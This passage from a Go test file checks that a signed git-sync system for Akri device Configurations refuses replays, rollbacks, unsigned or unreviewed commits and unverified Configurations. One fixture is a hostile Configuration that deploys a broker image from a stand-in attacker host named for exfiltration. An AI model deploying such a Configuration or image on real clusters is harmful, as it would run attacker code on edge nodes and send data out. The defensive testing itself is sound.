	require.NotContains(t, s.plan(out), "different properties")
	require.Empty(t, s.podsOn("edge-a"), "placement is sticky: a newly reporting node never displaces a broker")
	require.Equal(t, []string{pod}, s.podsOn("edge-b"))

	// A makes its own inventory invalid: B's instance still follows B.
	s.forgeInventory("edge-a", "    namespace: default\n", "    namespace: default\n    bogus: 1\n")
	s.forgeInventory("edge-b", "DEBUG_ECHO_DESCRIPTION: cam-1", "DEBUG_ECHO_DESCRIPTION: cam-1 v2")
	out, err := s.renderer.Once(t.Context())
	if err != nil {
		require.ErrorIs(t, err, gitsync.ErrNoChanges)
	}
	require.NotEmpty(t, out.Result.Errors, "edge-a's inventory is invalid")
	require.Contains(t, s.renderedFile(s.podsOn("edge-b")[0]), "cam-1 v2")
}

// Finding 6, after a restart: a writer whose ref was deleted while it was down has nothing of
// its own to build on. Its new line names the tip the renderer accepted (read from the render
// metadata), which the renderer takes in that tip's place; the old commits stay refused.
func TestAttackDeletedRefRecoversAfterARestart(t *testing.T) {
	s := newSignedLoop(t)
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	s.discover()
	s.renderTrust()
	ref := verify.InventoryBranch("edge-b")
	old := s.srv.On(ref).Head()
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0", "baz1")
	s.discover()
	s.renderTrust()

	s.srv.SetRef(ref, "")
	restarted := s.startAgent("edge-b", s.keys["node:edge-b"], s.nodes["edge-b"], 0,
		s.refs.acceptedTip(s.allowed, ref)...)
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0", "baz1", "baz2")
	_, err := restarted.Sync(t.Context())
	require.NoError(t, err)
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.True(t, s.inventoryWith("edge-b", "baz2"))

	// The old line is still a replay.
	newTip := s.srv.On(ref).Head()
	s.srv.SetRef(ref, old)
	out = s.renderTrust()
	s.untrusted(out, ref, "a replay or a rollback")
	// So is a new line that names another tip.
	s.srv.SetRef(ref, "")
	store, _ := s.refs.agent("edge-b", gitsync.WithSigner(s.keys["node:edge-b"]), gitsync.WithOwnHistory(),
		gitsync.WithRecoverFrom(func(context.Context) (string, error) { return old, nil }))
	_, err = store.Update(t.Context(), func(context.Context, gitsync.Snapshot) (*gitsync.Change, error) {
		return &gitsync.Change{Owned: []string{api.InventoryPath("edge-b")}, Files: map[string][]byte{api.InventoryPath("edge-b"): []byte(s.renderedFile(api.InventoryPath("edge-b")))},
			Message: "a line naming an older tip", Author: gitsync.Signature{Name: "x", Email: "x@example.com", When: time.Now()}}, nil
	})
	require.NoError(t, err)
	out = s.renderTrust()
	s.untrusted(out, ref, "a replay or a rollback")
	s.srv.SetRef(ref, newTip)
	out = s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
}

// Finding 4: an unsigned Configuration pushed on main was discovered by every agent and signed
// into the nodes' inventories, although the renderer refused that commit. Agents now read the
// Configurations the renderer verified, from its signed gitbroker/configurations; whatever else
// lands there (an unsigned commit, another commit the renderer signed, an older publication) is
// refused, the one accepted before stays in use, and the renderer puts the branch back.
func TestAttackAgentsReadOnlyVerifiedConfigurations(t *testing.T) {
	s := newSignedLoop(t)
	published := s.srv.On(verify.ConfigurationsBranch)
	first := published.Head()
	require.NotEmpty(t, first, "the first render publishes the verified Configurations")
	msg, err := s.srv.VerifyCommit(first, s.allowed)
	require.NoError(t, err, "the publication is the renderer's signature: %s", msg)
	// The enrolment goes with it, so an agent can tell whether the renderer takes its key.
	enrolment, ok := published.File(verify.AllowedSignersPath)
	require.True(t, ok, "the publication holds %s", verify.AllowedSignersPath)
	onMain, _ := s.srv.File(verify.AllowedSignersPath)
	require.Equal(t, onMain, enrolment)

	stolen := "apiVersion: akri.sh/v0\nkind: Configuration\nmetadata:\n  name: stolen\nspec:\n  discoveryHandler:\n    name: debugEcho\n    discoveryDetails: |+\n      descriptions: [\"x0\"]\n  brokerSpec:\n    brokerPodSpec:\n      containers:\n      - name: b\n        image: attacker.example.com/exfil:latest\n"
	s.nodes["edge-b"].set("default/stolen", "x0")
	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
	unsigned := s.srv.Commit(map[string]string{"configurations/stolen.yaml": stolen}, nil, "unsigned: a new Configuration")
	s.discover()
	out := s.renderTrust()
	s.untrusted(out, "main", "is not signed")
	require.True(t, s.inventoryWith("edge-b", "baz0"))
	require.False(t, s.inventoryWith("edge-b", "stolen"), "an agent discovered for a Configuration the renderer refused")
	inv, _ := s.srv.On(verify.InventoryBranch("edge-b")).File(api.InventoryPath("edge-b"))
	require.NotContains(t, inv, "stolen", "an agent signed devices of an unverified Configuration")
	require.Equal(t, first, published.Head(), "the refused commit is not published")

	// Pushed straight onto the publication branch: unsigned, then a commit the renderer did sign
	// but not as a publication (its render), then the agent's view must not move.
	s.srv.SetRef(verify.ConfigurationsBranch, s.srv.Head())
	s.discover()
	inv, _ = s.srv.On(verify.InventoryBranch("edge-b")).File(api.InventoryPath("edge-b"))
	require.NotContains(t, inv, "stolen")
	s.srv.SetRef(verify.ConfigurationsBranch, s.rendered().Head())
	s.discover()
	inv, _ = s.srv.On(verify.InventoryBranch("edge-b")).File(api.InventoryPath("edge-b"))
	require.NotContains(t, inv, "stolen")
	s.renderTrust()
	require.Equal(t, first, published.Head(), "the renderer puts its publication back")

	// A person accepts the commit: the Configuration is published, and discovered.
	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{"README.md": "reviewed\n"}, nil, "reviewed: the new Configuration\n\n"+verify.TrailerAccept+": "+unsigned)
	out = s.renderTrust()
	second := published.Head()
	require.NotEqual(t, first, second, s.plan(out))
	s.discover()
	s.renderTrust()
	require.True(t, s.inventoryWith("edge-b", "x0"), "a verified Configuration is discovered")

	// The older publication put back is a rollback: the agents keep the newer one.
	s.nodes["edge-b"].set("default/stolen", "x1")
	s.srv.SetRef(verify.ConfigurationsBranch, first)
	s.discover()
	s.renderTrust()
	require.True(t, s.inventoryWith("edge-b", "x1"), "an agent went back to an older publication")
	require.Equal(t, second, published.Head(), "the renderer puts its newest publication back")

	// A restarted agent, which remembers nothing, finds no publication: it writes nothing
	// rather than discover with the people's branch.
	s.srv.SetRef(verify.ConfigurationsBranch, "")
	restarted := s.startAgent("edge-a", s.keys["node:edge-a"], s.nodes["edge-a"], 0)
	_, err = restarted.Sync(t.Context())
	require.ErrorContains(t, err, "does not exist")
}

// Finding 9: any enrolled person's signature counted on main, wherever it was made: with a node
// credential, main was fast-forwarded to a signed but unreviewed "WIP" commit and it rendered.
// With spec.sourceBranch: bound, main renders only up to the newest commit a person signed
// that names main in a Gitbroker-Branch trailer (a signed merge, or git commit --trailer).
func TestAttackSignedWorkInProgressIsNotRendered(t *testing.T) {
	s := newSignedLoop(t)
	alice := s.keyFiles["alice@example.com"]
	s.srv.CommitSigned(alice, map[string]string{verify.TrustPath: "apiVersion: gitbroker.dev/v1alpha1\nkind: Trust\nspec:\n  sourceBranch: bound\n"}, nil,
		"bind signatures to their branch\n\n"+verify.TrailerBranch+": main")
	s.nodes["edge-a"].set("default/akri-debug-echo", "bar0")
	s.discover()
	out := s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.Contains(t, out.Inputs.Trust, "bound to main")
	cfg := string(s.mustFile("configurations/akri-debug-echo.yaml"))

	// Alice's work in progress, signed, on a branch of its own; its plan says it is not bound.
	gitsynctest.Git(t, s.srv.Bare(), "branch", "wip", "main")
	wip := s.srv.On("wip").CommitSigned(alice, map[string]string{"configurations/akri-debug-echo.yaml": strings.Replace(cfg, "nginx:stable-alpine", "nginx:wip", 1)}, nil, "WIP: try an untested image")
	code, stdout, stderr := gitbroker(t, "plan", "--git", s.srv.URL(), "--ref", "refs/heads/wip")
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, stdout, "no commit a person signed binds it to main")

	// The node credential fast-forwards main to it: signed, but not for main, so not rendered.
	s.srv.SetRef("main", wip)
	out = s.renderTrust()
	s.untrusted(out, "main", "1 commit(s) up to "+wip[:12]+" are signed but bound to no branch")
	require.NotContains(t, s.brokersText(), "nginx:wip")
	// Bound to another branch, it still is not main's.
	s.srv.CommitSigned(alice, map[string]string{"NOTES.md": "staging\n"}, nil, "for staging\n\n"+verify.TrailerBranch+": staging")
	out = s.renderTrust()
	s.untrusted(out, "main", "2 commit(s)")
	require.NotContains(t, s.brokersText(), "nginx:wip")

	// A person binds what is on main now to main: everything up to that commit renders.
	bound := s.srv.CommitSigned(alice, map[string]string{"NOTES.md": "reviewed\n"}, nil, "reviewed: the new image is for main\n\n"+verify.TrailerBranch+": main")
	out = s.renderTrust()
	require.Empty(t, out.Result.Untrusted, s.plan(out))
	require.Equal(t, bound, out.Source)
	require.Contains(t, s.brokersText(), "nginx:wip")
}
